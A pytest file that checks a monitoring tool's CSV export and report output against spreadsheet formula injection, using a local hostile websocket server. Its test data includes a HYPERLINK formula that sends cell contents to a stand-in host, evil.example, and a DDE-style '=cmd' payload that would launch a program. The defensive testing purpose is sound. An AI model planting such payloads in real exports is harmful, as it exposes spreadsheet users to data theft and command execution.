"""Export injection: a hostile target chooses close reasons, event types and error texts
(and config chooses user ids and labels); no CSV cell of ``export`` or
``report --format csv`` may start a new line or run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest
import pytest_asyncio
from websockets.asyncio.server import ServerConnection, serve

from probes.records import RoundResult
from probes.results import ResultStore
from tests.cli.conftest import slawatch
from tests.support.probing import probe_round

pytestmark = pytest.mark.asyncio

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE_TYPE = f"\r{PAYLOAD}"
HOSTILE_REASON = f"bye\r{PAYLOAD}\n+1\t-2"
CONTROL = {chr(c) for c in range(32)} | {"\x7f"}


async def _hostile(ws: ServerConnection) -> None:
    async for raw in ws:
        request = json.loads(raw)
        if request.get("type") == "chat":
            event = {"type": HOSTILE_TYPE, "ref": request["id"], "seq": 1, "run_id": "r"}
            await ws.send(json.dumps(event))
            await ws.close(4000, HOSTILE_REASON)
            return


@pytest_asyncio.fixture
async def hostile_url() -> AsyncIterator[str]:
    async with serve(_hostile, "127.0.0.1", 0) as server:
        yield f"ws://127.0.0.1:{server.sockets[0].getsockname()[1]}/ws"


def _assert_inert(text: str, expected_rows: int) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    # No cell starts a line of its own: physical lines are exactly the records.
    assert len(text.splitlines()) == len(rows) == expected_rows + 1
    for row in rows[1:]:
        assert len(row) == len(rows[0])
        for cell in row:
            assert not CONTROL & set(cell), repr(cell)
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), repr(cell)
    return rows


def _earlier(r: RoundResult, by: timedelta) -> RoundResult:
    sessions = tuple(replace(s, started_at=s.started_at - by) for s in r.sessions)
    return replace(
        r, started_at=r.started_at - by, finished_at=r.finished_at - by, sessions=sessions
    )


async def test_hostile_texts_are_inert_in_export_and_report_csv(
    hostile_url: str, sqlite_url: str, tmp_path: Path
) -> None:
    measured = await probe_round(
        hostile_url,
        runner="@runner\rx",
        users=2,
        healthz="off",
        user_prefix="=cmd|' /C calc'!A0",
        bad_token_check=False,
        db_check=False,
        timeout_s=10.0,
        session_timeout_s=5.0,
    )
    # What really happened reached the records, hostile texts and all.
    assert {s.close_reason for s in measured.sessions} == {HOSTILE_REASON}
    assert all(e.type == HOSTILE_TYPE for s in measured.sessions for e in s.events)
    # A report counts whole past minutes (its end is rounded down, never into the
    # future): the round is stored as of two minutes ago so the report holds it.
    with ResultStore.open(sqlite_url) as store:
        store.save_round(_earlier(measured, timedelta(minutes=2)))
    exported = slawatch(
        "export", "sessions", "--format", "csv", "--since", "1h", "--db", sqlite_url
    )
    assert exported.returncode == 0, exported.stderr
    cells = [cell for row in _assert_inert(exported.stdout, 2) for cell in row]
    assert any(PAYLOAD in cell for cell in cells)  # kept as text, not dropped
    rounds = slawatch("export", "rounds", "--format", "csv", "--since", "1h", "--db", sqlite_url)
    _assert_inert(rounds.stdout, 1)
    out = tmp_path / "report.csv"
    report = slawatch(
        "report", "--since", "1h", "--format", "csv", "-o", str(out), "--db", sqlite_url
    )
    assert report.returncode == 0, report.stderr
    _assert_inert(out.read_text(encoding="utf-8"), 2)
    _assert_inert(out.with_name("report.rounds.csv").read_text(encoding="utf-8"), 1)
